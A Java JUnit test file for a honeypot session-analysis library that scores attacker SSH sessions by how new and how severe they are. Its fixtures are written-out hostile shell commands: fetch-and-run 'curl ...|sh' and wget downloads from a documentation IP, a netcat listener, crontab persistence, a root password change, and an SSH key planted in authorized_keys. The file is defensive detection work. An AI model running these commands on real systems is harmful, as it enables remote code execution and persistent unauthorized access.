package io.github.cowriekit.analysis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.github.cowriekit.model.Client;
import io.github.cowriekit.model.Download;
import io.github.cowriekit.model.FileOrigin;
import io.github.cowriekit.model.Forward;
import io.github.cowriekit.model.KeyExchange;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.SessionBuilder;
import io.github.cowriekit.model.assessment.Interest;
import io.github.cowriekit.model.assessment.Interest.Reason;
import io.github.cowriekit.model.assessment.Interest.Side;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;

class InterestTest {
    private static final String HASH = "22".repeat(32);

    private final Analysis analysis =
            Analysis.builder().history(SessionHistory.create()).build();

    @Test
    void findsNothingNewInTheFirstSession() {
        assertThat(of(Sessions.ran("a", "b", "c").build()).reasons()).isEmpty();
    }

    @Test
    void isSurerOfWhatIsNewTheMoreItHasSeen() {
        List<Integer> points = new ArrayList<>();
        for (int seen : List.of(10, 50, 100, 200)) {
            Analysis fresh = Analysis.builder().history(SessionHistory.create()).build();
            for (int i = 0; i < seen; i++) {
                fresh.assess(Sessions.ran("uname -a").build());
            }
            points.add(reason(fresh, Sessions.ran("wget http://192.0.2.7/a/x.sh", "id"), "new-url")
                    .points());
        }

        assertThat(points).containsExactly(8, 18, 25, 25);
    }

    @Test
    void namesWhatIsNewAndWhere() {
        warm(100);
        Interest interest = of(Sessions.ran("nc -l 4444", "crontab -", "curl http://192.0.2.7/b.sh?x=1|sh")
                .client(client("ab"))
                .logins(List.of(Sessions.login("root", "Sesam!77", true)))
                .downloads(List.of(Download.builder(FileOrigin.URL).sha256(HASH).build()))
                .forwards(List.of(
                        Forward.builder().targetHost("192.0.2.1").targetPort(25).build()))
                .build());

        assertThat(interest.reasons())
                .filteredOn(reason -> reason.side() == Side.RARITY)
                .extracting(Reason::id, Reason::observed)
                .contains(
                        tuple("new-url", "http://192.0.2.7/b.sh?x=1"),
                        tuple("new-file", HASH),
                        tuple("new-forward-target", "192.0.2.1:25"),
                        tuple("new-client", "ab".repeat(16) + " of SSH-2.0-Go"),
                        tuple("new-credential", "root / ?u?l4?s?d2"),
                        tuple("new-playbook", "nc -l 4444; crontab -; curl http://192.0.2.7/b.sh?x=1|sh"));
        assertThat(interest.reasons())
                .filteredOn(reason -> reason.id().equals("new-technique"))
                .singleElement()
                .satisfies(reason -> assertThat(reason.observed()).contains("T1095 Non-Application Layer Protocol"));
        assertThat(interest.reasons())
                .filteredOn(reason -> reason.id().equals("new-url"))
                .singleElement()
                .satisfies(
                        reason -> assertThat(reason.text()).startsWith("a URL never seen before in this input: http"));
        assertThat(interest.points()).isEqualTo(100);
        assertThat(interest.severity() + interest.rarity()).isGreaterThan(100);
    }

    @Test
    void namesAPlantedKey() {
        warm(100);
        String key = "ssh-rsa " + "B".repeat(44);

        assertThat(reason(analysis, Sessions.ran("echo " + key + " me >> ~/.ssh/authorized_keys", "id"), "new-key")
                        .observed())
                .startsWith("SHA256:");
    }

    @Test
    void countsAUrlOnceWhateverFollowsItsPath() {
        warm(100);
        reason(analysis, Sessions.ran("wget http://192.0.2.7/a/x.sh?1", "id"), "new-url");

        assertThat(of(Sessions.ran("wget https://192.0.2.7/a/x.sh#2", "w").build())
                        .reasons())
                .extracting(Reason::id)
                .doesNotContain("new-url");
    }

    @Test
    void isLessSurprisedWhereEverythingIsNew() {
        warm(100);
        int first = 0;
        int last = 0;
        for (int i = 0; i < 200; i++) {
            last = reason(analysis, Sessions.ran("wget http://192.0.2.7/a/" + i + "x.sh", "id"), "new-url")
                    .points();
            first = i == 0 ? last : first;
        }

        assertThat(first).isEqualTo(25);
        assertThat(last).isLessThan(4);
    }

    @Test
    void seesWhatIsNewAmongAllSensorsUnlessTheyAreGrouped() {
        Analysis grouped = Analysis.builder()
                .history(SessionHistory.create())
                .group(session -> String.valueOf(session.sensor()))
                .build();
        for (Analysis each : List.of(analysis, grouped)) {
            for (int i = 0; i < 100; i++) {
                each.assess(Sessions.ran("uname -a").build());
                each.assess(Sessions.ran("uname -a").sensor("hp02").build());
            }
            each.assess(Sessions.ran("wget http://192.0.2.7/a/x.sh", "id").build());
        }
        Session elsewhere = Sessions.ran("wget http://192.0.2.7/a/x.sh", "id")
                .sensor("hp02")
                .build();

        assertThat(of(elsewhere).reasons()).extracting(Reason::id).doesNotContain("new-url");
        assertThat(interest(grouped, elsewhere).reasons())
                .extracting(Reason::id)
                .contains("new-url")
                .doesNotContain("new-playbook");
    }

    @Test
    void givesLittleForOneLook() {
        warm(1_000);
        Interest interest = of(Sessions.ran("top")
                .client(client("cd"))
                .logins(List.of(Sessions.login("root", "Sesam!78", true)))
                .build());

        assertThat(interest.reasons()).isNotEmpty();
        assertThat(interest.points()).isPositive().isLessThanOrEqualTo(10);
        assertThat(of(Sessions.ran("uname -a").build()).points()).isZero();
    }

    @Test
    void tellsWhatWasDoneFromHowNewItIs() {
        warm(100);
        String[] commands = {"echo \"root:aeUVqyLmI0Sy\"|chpasswd", "(crontab -l; echo '* * * * * /tmp/x') | crontab -"
        };
        Interest first = of(Sessions.ran(commands).build());
        Interest last = first;
        for (int i = 0; i < 30; i++) {
            last = of(Sessions.ran(commands).build());
        }

        assertThat(first.severity()).isEqualTo(last.severity()).isGreaterThanOrEqualTo(20);
        assertThat(first.rarity()).isPositive();
        assertThat(last.rarity()).isEqualTo(-20);
        assertThat(last.points()).isEqualTo(last.severity() - 20);
        assertThat(last.reasons())
                .filteredOn(reason -> reason.side() == Side.SEVERITY)
                .allSatisfy(reason -> assertThat(reason.observed()).matches("T1\\d{3}.*"));
    }

    @Test
    void takesPointsFromAKnownCampaignAndFromWhatCameOften() {
        String[] commands = {"cd ~; chattr -ia .ssh; lockr -ia .ssh", "id", "w"};
        Interest first = of(Sessions.ran(commands).build());
        for (int i = 0; i < 30; i++) {
            of(Sessions.ran(commands).build());
        }
        Interest last = of(Sessions.ran(commands).build());

        assertThat(first.reasons())
                .filteredOn(reason -> reason.points() < 0)
                .extracting(Reason::id, Reason::points, Reason::observed)
                .containsExactly(tuple("known-campaign", -30, "outlaw-mdrfckr"));
        assertThat(last.reasons())
                .filteredOn(reason -> reason.points() < 0)
                .extracting(Reason::id, Reason::points, Reason::observed)
                .containsExactly(
                        tuple("seen-before", -20, "31 sessions, outlaw-mdrfckr"),
                        tuple("known-campaign", -30, "outlaw-mdrfckr"));
    }

    @Test
    void takesNoMoreThanTwoThirdsOfTheSeverity() {
        Reason harm = new Reason("impact", Side.SEVERITY, 31, "", "harm");
        Reason known = new Reason("known-campaign", Side.RARITY, -30, "x", "a known campaign");

        assertThat(Interest.of(List.of(known, harm))).isEqualTo(new Interest(11, 31, -30, List.of(harm, known)));
        assertThat(Interest.of(List.of(known)).points()).isZero();
    }

    @Test
    void findsWhatIsRare() {
        of(Sessions.ran("echo rare").build());
        warm(1_000);

        assertThat(of(Sessions.ran("echo rare", "exit").build()).reasons())
                .extracting(Reason::id)
                .contains("new-playbook");
        assertThat(of(Sessions.ran("echo rare").build()).reasons())
                .extracting(Reason::id, Reason::observed)
                .contains(tuple("rare-playbook", "about 1 time"));
    }

    @Test
    void findsSessionsFarFromTheirCluster() {
        warm(100);

        assertThat(reason(analysis, Sessions.ran("uname -a").duration(Duration.ofSeconds(21)), "outside-range")
                        .observed())
                .isEqualTo("21000 ms, others 10000 to 10000 ms");
        assertThat(of(Sessions.ran("uname -a").duration(Duration.ofSeconds(15)).build())
                        .reasons())
                .extracting(Reason::id)
                .doesNotContain("outside-range");
    }

    private void warm(int sessions) {
        for (int i = 0; i < sessions; i++) {
            of(Sessions.ran("uname -a").build());
        }
    }

    private Interest of(Session session) {
        return interest(analysis, session);
    }

    private static Interest interest(Analysis analysis, Session session) {
        return Objects.requireNonNull(analysis.assess(session).interest());
    }

    private static Reason reason(Analysis analysis, SessionBuilder session, String id) {
        return interest(analysis, session.build()).reasons().stream()
                .filter(reason -> reason.id().equals(id))
                .findFirst()
                .orElseThrow();
    }

    private static Client client(String digits) {
        return new Client(
                "SSH-2.0-Go", KeyExchange.builder().hassh(digits.repeat(16)).build(), null, List.of());
    }
}
